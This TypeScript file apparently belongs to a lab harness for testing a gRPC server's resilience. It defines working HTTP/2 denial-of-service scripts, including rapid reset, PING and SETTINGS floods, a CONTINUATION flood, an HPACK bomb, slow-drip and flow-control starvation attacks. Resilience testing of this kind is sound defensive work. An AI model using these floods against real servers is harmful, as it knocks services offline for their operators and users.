/** Attacks of single frames: cheap for who sends them, work or memory for who gets them. */
import {
  encodeFrame,
  encodeReset,
  encodeWindowUpdate,
  ERROR_CANCEL,
  ALS_PATHS,
  FLAG_END_HEADERS,
  FLAG_END_STREAM,
  FRAME_DATA,
  FRAME_HEADERS,
  FRAME_PING,
  FRAME_SETTINGS,
  SETTING_INITIAL_WINDOW_SIZE,
} from '../../src/lab/fleet/http2-bytes.js';
import type { HostileConnection, Script } from './hostile-connection.js';

const FRAME_CONTINUATION = 9;
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
/** A ServerReflectionRequest that asks for the list of services, in its envelope. */
const LIST_SERVICES = Buffer.from([0, 0, 0, 0, 2, 0x3a, 0x00]);
const EMPTY = new Uint8Array(0);
const PING = encodeFrame(FRAME_PING, 0, 0, Buffer.alloc(8));
/** Frames of one round: enough that a round costs more on their side than on ours. */
const PER_ROUND = 500;
/** The shipped limit of streams on a connection. */
const STREAMS = 32;
const MAX_WINDOW_BYTES = 0x7fffffff;

const LARGE_VALUE_BYTES = 3900;
/** A field that nearly fills the table, as a literal that goes there (RFC 7541 §6.2.1). */
const LARGE_FIELD = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from('x'),
  Buffer.from([127, ((LARGE_VALUE_BYTES - 127) & 127) | 128, (LARGE_VALUE_BYTES - 127) >>> 7]),
  Buffer.alloc(LARGE_VALUE_BYTES, 'v'),
]);

/** Rounds of `PER_ROUND` times the same, or of what belongs to a running number. */
function flood(title: string, bytes: (connection: HostileConnection, index: number) => Uint8Array): Script {
  return {
    title,
    everyMs: 0,
    say: (connection, round) =>
      Buffer.concat(Array.from({ length: PER_ROUND }, (_, index) => bytes(connection, round * PER_ROUND + index))),
  };
}

function streamIds(count: number): number[] {
  return Array.from({ length: count }, (_, index) => 2 * index + 1);
}

/** The start of a message of 16 MiB that never comes. */
function messageStart(streamId: number): Buffer {
  const envelope = Buffer.alloc(5);
  envelope.writeUInt32BE(1 << 24, 1);
  return encodeFrame(FRAME_DATA, 0, streamId, envelope);
}

export const SCRIPTS: Readonly<Record<string, Script>> = {
  'rapid-reset': flood('streams opened and reset at once', (connection, index) =>
    Buffer.concat([connection.headers(2 * index + 1, ALS_PATHS.v3), encodeReset(2 * index + 1, ERROR_CANCEL)]),
  ),
  'provoked-reset': flood('streams opened and made to be reset', (connection, index) =>
    Buffer.concat([connection.headers(2 * index + 1, ALS_PATHS.v3), encodeWindowUpdate(2 * index + 1, 0)]),
  ),
  ping: flood('PING without end', () => PING),
  settings: flood('SETTINGS without end', () => encodeFrame(FRAME_SETTINGS, 0, 0, EMPTY)),
  'empty-data': flood('DATA without payload', (connection, index) =>
    index === 0 ? connection.headers(1, ALS_PATHS.v3) : encodeFrame(FRAME_DATA, 0, 1, EMPTY),
  ),
  continuation: flood('a header block without end', (_, index) =>
    encodeFrame(index === 0 ? FRAME_HEADERS : FRAME_CONTINUATION, 0, 1, Uint8Array.of(0x82)),
  ),
  /** Makes answers pile up: a few hundred bytes of questions a round, kilobytes of answers that nobody takes. */
  'never-reads': {
    title: 'asks on 32 streams and never reads an answer',
    settings: [SETTING_INITIAL_WINDOW_SIZE, MAX_WINDOW_BYTES],
    isDeaf: true,
    everyMs: 1,
    say: (connection, round) =>
      round === 0
        ? Buffer.concat([
            encodeWindowUpdate(0, MAX_WINDOW_BYTES - 65_535),
            ...streamIds(STREAMS).map((id) => connection.headers(id, REFLECTION)),
          ])
        : Buffer.concat(streamIds(STREAMS).map((id) => encodeFrame(FRAME_DATA, 0, id, LIST_SERVICES))),
  },
  'one-byte-windows': {
    title: 'gives credit of a byte to each of 32 streams',
    settings: [SETTING_INITIAL_WINDOW_SIZE, 1],
    everyMs: 20,
    say: (connection, round) =>
      round === 0
        ? Buffer.concat(
            streamIds(STREAMS).map((id) =>
              Buffer.concat([connection.headers(id, REFLECTION), encodeFrame(FRAME_DATA, 0, id, LIST_SERVICES)]),
            ),
          )
        : Buffer.concat(streamIds(STREAMS).map((id) => encodeWindowUpdate(id, 1))),
  },
  'slow-drip': {
    title: '32 messages of 16 MiB, a byte at a time',
    everyMs: 2,
    say: (connection, round) =>
      round === 0
        ? Buffer.concat(streamIds(STREAMS).flatMap((id) => [connection.headers(id, ALS_PATHS.v3), messageStart(id)]))
        : Buffer.concat(streamIds(STREAMS).map((id) => encodeFrame(FRAME_DATA, 0, id, Uint8Array.of(round & 255)))),
  },
  /** One large field put into the table, then blocks of nothing but references to it. */
  'hpack-bomb': {
    title: 'header blocks of 16 KB that name 60 MB',
    everyMs: 0,
    say: (_connection, round) =>
      round === 0
        ? Buffer.concat([encodeFrame(FRAME_HEADERS, FLAG_END_HEADERS, 1, LARGE_FIELD), encodeReset(1, ERROR_CANCEL)])
        : Buffer.concat([
            encodeFrame(FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, 2 * round + 1, Buffer.alloc(16_000, 0xbe)),
          ]),
  },
  'connection-churn': {
    title: 'connects, opens a stream, resets, again',
    everyMs: 1,
    say: (connection, round) => (round === 0 ? connection.headers(1, ALS_PATHS.v3) : null),
  },
};
